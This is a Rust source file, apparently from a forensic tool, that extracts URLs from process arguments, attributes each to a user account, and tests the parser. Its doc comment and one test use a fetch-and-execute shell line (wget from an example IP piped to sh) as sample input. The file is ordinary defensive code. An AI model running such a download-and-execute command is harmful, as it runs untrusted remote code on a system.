//! URLs among the arguments of processes, for urlinfo.
//!
//! Found is what begins with `http://` or `https://`, upper case or lower, anywhere in an argument: `curl https://example.com/x`,
//! `--proxy=http://10.0.0.1:3128`, `sh -c 'wget -qO- http://192.0.2.1/a | sh'`. It ends where a shell or a person would end it.

use pofr_core::{
    fact::{Fact, Process},
    lifetime::Row,
    raw::RawText,
    store::UrlUse,
    time::WallMicros,
};
use std::collections::BTreeSet;

/// More of one process are not listed; its arguments have them all.
const MOST: usize = 64;
/// A longer one is cut here, bytes.
const MOST_BYTES: usize = 2048;

/// Whose accounts are whose, to name users.
#[derive(Debug, Default)]
pub(crate) struct Users(Vec<(u32, RawText, Option<WallMicros>, Option<WallMicros>)>);

impl Users {
    /// Takes the accounts among these rows.
    pub(crate) fn add(&mut self, rows: &[Row]) {
        for row in rows {
            if let Fact::User(user) = &row.fact {
                self.0.push((user.uid, user.name.clone(), row.life.first_seen, row.life.last_seen));
            }
        }
    }

    /// Names a user at a time: by an account that was there then, else by one that was before or after, else by the number.
    fn name(&self, uid: u32, at: WallMicros) -> RawText {
        let mine = || self.0.iter().filter(|(other, ..)| *other == uid);
        let then = |(_, _, from, to): &&(u32, RawText, Option<WallMicros>, Option<WallMicros>)| {
            from.is_none_or(|from| from <= at) && to.is_none_or(|to| at <= to)
        };
        // Two names of one number: the same one each time.
        let name = mine().filter(then).map(|(_, name, ..)| name).min();
        let name = name.or_else(|| mine().map(|(_, name, ..)| name).min());
        name.cloned().unwrap_or_else(|| RawText::from(uid.to_string().as_str()))
    }
}

/// Returns the URLs among the arguments of the processes in `rows`.
pub(crate) fn used<'a>(rows: impl IntoIterator<Item = &'a Row>, users: &Users) -> Vec<UrlUse> {
    rows.into_iter()
        .flat_map(|row| match &row.fact {
            Fact::Process(process) => of(row, process, users),
            _ => Vec::new(),
        })
        .collect()
}

fn of(row: &Row, process: &Process, users: &Users) -> Vec<UrlUse> {
    let Some(arguments) = process.arguments() else { return Vec::new() };
    let urls = find(arguments.as_bytes());
    if urls.is_empty() {
        return Vec::new();
    }
    let at = row.life.position();
    let user = process.key.ids.ruid.map_or_else(|| "?".into(), |uid| users.name(uid, at));
    let one = |url: &[u8]| UrlUse {
        run: row.run,
        entity: process.key.entity,
        at,
        zone: row.zone,
        url: url.into(),
        user: user.clone(),
    };
    urls.into_iter().map(one).collect()
}

/// Finds the URLs in an argument vector, each once.
fn find(arguments: &[u8]) -> BTreeSet<&[u8]> {
    let mut urls = BTreeSet::new();
    let mut at = 0;
    while let Some(length) = arguments.get(at..).and_then(|rest| rest.windows(3).position(|w| w == b"://")) {
        let slashes = at + length;
        at = slashes + 3;
        let before = &arguments[..slashes];
        let Some(scheme) = [&b"https"[..], b"http"].into_iter().find(|scheme| {
            before.len() >= scheme.len() && before[before.len() - scheme.len()..].eq_ignore_ascii_case(scheme)
        }) else {
            continue;
        };
        let start = slashes - scheme.len();
        let rest = &arguments[start..];
        let end = rest.iter().position(|b| b.is_ascii_control() || b" \"'<>`|\\^{}".contains(b));
        let mut url = &rest[..end.unwrap_or(rest.len()).min(MOST_BYTES)];
        // What ends a word of a shell's or a sentence.
        while let [shorter @ .., b';' | b',' | b')' | b'&' | b'.'] = url {
            url = shorter;
        }
        if url.len() > scheme.len() + 3 && urls.len() < MOST {
            urls.insert(url);
        }
        at = at.max(start + url.len());
    }
    urls
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(arguments: &str) -> Vec<String> {
        find(arguments.as_bytes()).into_iter().map(|url| RawText::from(url).escaped()).collect()
    }

    #[test]
    fn urls_end_where_a_shell_ends_them() {
        assert_eq!(
            found("curl\0-s\0https://example.com/a?b=c&d=e;f#g\0"),
            ["https://example.com/a?b=c&d=e;f#g"]
        );
        assert_eq!(
            found("sh\0-c\0wget -qO- http://192.0.2.1:8080/x.sh|sh\0"),
            ["http://192.0.2.1:8080/x.sh"]
        );
        assert_eq!(
            found("x\0--proxy=HTTP://10.0.0.1:3128\0--proxy=HTTP://10.0.0.1:3128\0"),
            ["HTTP://10.0.0.1:3128"]
        );
        assert_eq!(
            found("echo\0(see http://a.example/, or 'https://b.example').\0"),
            ["http://a.example/", "https://b.example"]
        );
        assert_eq!(found("git\0clone\0https://user:pass@h/r.git;ls\0"), ["https://user:pass@h/r.git;ls"]);
        assert_eq!(found("a\0http://h/\u{e9}\u{202e}\0"), ["http://h/\u{e9}\\xe2\\x80\\xae"]);
        for none in ["", "://", "http://", "https:// a", "ftp://h/", "x://http:/", "http://\0h", "http://'h'"]
        {
            assert_eq!(found(none), [""; 0], "{none:?}");
        }
    }

    #[test]
    fn one_within_another_is_one() {
        assert_eq!(found("a\0http://proxy/http://inner/x\0"), ["http://proxy/http://inner/x"]);
        assert_eq!(found("a\0xhttp://h/\0"), ["http://h/"]);
    }

    #[test]
    fn long_and_many_are_bounded() {
        let long = format!("http://h/{}", "a".repeat(10_000));
        assert_eq!(found(&long)[0].len(), MOST_BYTES);
        let many: String = (0..1000).map(|n| format!("http://h/{n}\0")).collect();
        assert_eq!(found(&many).len(), MOST);
    }
}
